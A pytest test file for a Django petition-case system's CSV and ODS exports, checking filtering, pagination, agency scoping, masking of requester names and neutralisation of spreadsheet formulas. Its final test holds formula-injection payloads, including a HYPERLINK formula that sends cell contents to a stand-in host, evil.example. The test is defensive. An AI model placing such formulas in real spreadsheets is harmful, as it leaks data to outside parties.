"""Exports of the case list: CSV with a BOM for Excel and a real ODS spreadsheet, both of the
current filtered list (every page), with requesters masked."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from odf.opendocument import load
from odf.table import Table, TableCell, TableHeaderRows, TableRow
from odf.teletype import extractText

from secretariat.cases import services

pytestmark = pytest.mark.django_db


@pytest.fixture
def cases(staff, agency):
    def new(subject, received_on, name):
        return services.open_case(
            kind="petition",
            subject=subject,
            body=f"{subject}。",
            channel="letter",
            received_on=received_on,
            requester={"name": name, "email": f"{len(subject)}@example.test"},
            by=None,
        )

    late = new("陳情騎樓占用", dt.date(2025, 3, 3), "王小明")
    services.route_case(late, agency("都發局"), by=staff["router"], on=dt.date(2025, 3, 3))
    other = new("陳情路燈不亮", dt.date(2025, 3, 5), "歐陽娜娜")
    services.route_case(other, agency("警察局"), by=staff["router"], on=dt.date(2025, 3, 5))
    return {"late": late, "other": other}


def read_csv(response) -> list[list[str]]:
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.content.startswith(b"\xef\xbb\xbf")  # Excel needs the BOM for UTF-8
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def read_ods(response) -> list[list[str]]:
    assert response["Content-Type"] == "application/vnd.oasis.opendocument.spreadsheet"
    document = load(io.BytesIO(response.content))
    (table,) = document.spreadsheet.getElementsByType(Table)
    assert len(table.getElementsByType(TableHeaderRows)) == 1
    return [
        [extractText(cell) for cell in row.getElementsByType(TableCell)]
        for row in table.getElementsByType(TableRow)
    ]


def test_csv_of_the_filtered_list(client, staff, cases):
    client.force_login(staff["router"])
    rows = read_csv(client.get("/cases/export.csv", {"text": "騎樓"}))
    assert rows[0][:3] == ["案號", "案件類別", "主旨"] and rows[0][-1] == "陳情人"
    assert len(rows) == 2
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["案號"] == cases["late"].number and row["案件類別"] == "人民陳情"
    assert row["收件日期"] == "114/03/03" and row["最近回復期限"] == "114/03/11"
    assert row["主辦機關"] == "都發局" and row["逾期"] == "已逾期"
    assert row["陳情人"] == "王○明"
    assert "王小明" not in "".join(rows[1])


def test_csv_has_every_page_not_only_the_first(client, staff, registry):
    for i in range(60):
        services.open_case(
            kind="petition", subject=f"陳情第{i}件", body="內容", channel="letter", by=None
        )
    client.force_login(staff["router"])
    assert len(read_csv(client.get("/cases/export.csv", {"page": 1}))) == 61


def test_ods_is_a_spreadsheet_with_a_header_row(client, staff, cases):
    client.force_login(staff["router"])
    response = client.get("/cases/export.ods", {"order": "number"})
    assert ".ods" in response["Content-Disposition"]
    rows = read_ods(response)
    assert rows[0] == [
        "案號",
        "案件類別",
        "主旨",
        "來源管道",
        "收件日期",
        "狀態",
        "主辦機關",
        "最近回復期限",
        "逾期",
        "陳情人",
    ]
    assert rows[1][:3] == [cases["late"].number, "人民陳情", "陳情騎樓占用"]
    assert rows[2][0] == cases["other"].number and rows[2][-1] == "歐○○娜"
    assert not any("王小明" in cell or "歐陽娜娜" in cell for row in rows for cell in row)


def test_an_agency_exports_only_its_own_parts(client, staff, cases):
    client.force_login(staff["udd"])
    rows = read_ods(client.get("/cases/export.ods"))
    assert len(rows) == 2
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["案號"] == cases["late"].number and row["主協辦"] == "主辦"
    assert row["回復期限"] == "114/03/11" and row["陳情人"] == "王○明"
    rows = read_csv(client.get("/cases/export.csv"))
    assert [r[0] for r in rows[1:]] == [cases["late"].number]


def test_unknown_export_format_is_not_found(client, staff):
    client.force_login(staff["router"])
    assert client.get("/cases/export.xlsx").status_code == 404


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"點此")', "+1+1", "-2+3", "@SUM(A1:A9)"]


@pytest.fixture
def formula_cases(staff):
    for number, subject in enumerate(FORMULAS):
        services.open_case(
            kind="petition",
            subject=subject,
            body="內容。",
            channel="letter",
            received_on=dt.date(2025, 3, 3),
            requester={"name": f"=王明{number}"},  # masked: =○○{number}
        )


@pytest.mark.parametrize("fmt", ["csv", "ods"])
def test_cells_that_start_like_a_formula_are_written_as_text(client, staff, formula_cases, fmt):
    client.force_login(staff["router"])
    response = client.get(f"/cases/export.{fmt}")
    rows = (read_csv if fmt == "csv" else read_ods)(response)[1:]
    assert sorted(row[2] for row in rows) == sorted("'" + subject for subject in FORMULAS)
    assert sorted(row[-1] for row in rows) == [f"'=○○{n}" for n in range(len(FORMULAS))]
    for row in rows:  # no cell of the export starts like a formula any more
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
